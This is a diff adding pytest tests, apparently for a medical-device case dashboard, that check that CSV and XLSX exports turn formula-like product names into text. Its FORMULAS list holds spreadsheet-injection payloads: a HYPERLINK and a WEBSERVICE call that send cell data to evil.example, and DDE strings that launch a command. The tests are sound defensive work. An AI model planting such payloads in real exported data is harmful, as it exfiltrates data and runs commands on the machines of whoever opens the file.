@@ -133,3 +133,33 @@ def test_english_case_list_headings_start_with_a_capital(kpi_cases, users):
     headings = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
     assert headings[4:8] == ["Device class", "Category", "Application type", "Pathway"]
     assert all(h[0].isupper() for h in headings), headings
+
+
+# Issue 17, item 1: what an enterprise types reaches the supervisor's spreadsheet as text.
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example/")', "-2+3+cmd|' /C calc'!A0",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_a_product_name_that_looks_like_a_formula_is_text_in_csv_and_xlsx(payload, reviewing, users):
+    app = reviewing(on=dt.date(2026, 3, 2), product_name="placeholder")
+    # Single-line fields refuse control characters at validation; an old row or an import may still
+    # hold one, so the export is tested with the raw value in the database.
+    type(app).objects.filter(pk=app.pk).update(product_name=payload)
+    client = _client(users.supervisor)
+    response = client.get("/dashboard/export.csv" + QUERY + "&table=case_list")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert _case_row(rows, app.reference)[1] == "'" + payload
+
+    content = client.get("/dashboard/export.xlsx" + QUERY + "&table=case_list").content
+    wb = load_workbook(io.BytesIO(content))  # not read-only: the cell's type is what is tested
+    ws = wb["案件清单"]
+    cell = next(r[1] for r in ws.iter_rows(min_row=3) if r[0].value == app.reference)
+    assert cell.data_type == "s" and cell.value == payload, (cell.data_type, cell.value)
+
+
+def test_numbers_and_plain_text_are_unchanged_in_csv():
+    from kpi.exports import csv_safe
+
+    assert [csv_safe(v) for v in (-3, 4.5, "医用口罩", "A-1", None)] == [-3, 4.5, "医用口罩", "A-1", None]
